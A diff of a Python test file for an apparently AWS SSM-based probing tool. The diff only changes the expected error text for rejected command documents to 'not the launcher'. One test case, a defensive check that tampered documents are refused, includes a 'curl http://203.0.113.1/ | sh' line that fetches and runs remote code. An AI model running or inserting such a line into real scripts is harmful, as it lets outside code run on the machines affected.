@@ -100,9 +100,9 @@ def test_a_probe_is_sent_to_all_even_if_one_fails_and_carries_the_assessment(
 @pytest.mark.parametrize(
     ("script", "why"),
     [
-        ("echo hello", "no packed probe"),
-        (packed_probe() + "\ncurl http://203.0.113.1/ | sh", "does more than unpack"),
-        (packed_probe().replace("exec /bin/sh", "id; exec /bin/sh"), "does more than unpack"),
+        ("echo hello", "not the launcher"),
+        (packed_probe() + "\ncurl http://203.0.113.1/ | sh", "not the launcher"),
+        (packed_probe().replace("exec /bin/sh", "id; exec /bin/sh"), "not the launcher"),
     ],
 )
 def test_another_document_is_not_sent(member: AwsMember, sending: Stubber, script: str, why: str) -> None:
@@ -134,7 +134,7 @@ def test_a_document_replaced_after_it_was_looked_at_is_looked_at_again(
     ssm.create_document(Name="cce-fleet-linux", Content=document("id"), DocumentType="Command")
 
     sending.add_client_error("send_command", "InvalidDocument", "hash", http_status_code=400)
-    with pytest.raises(DocumentError, match="no packed probe"):
+    with pytest.raises(DocumentError, match="not the launcher"):
         member.send_probe(IDS, "20261122T013000Z-7f3a")
 
 
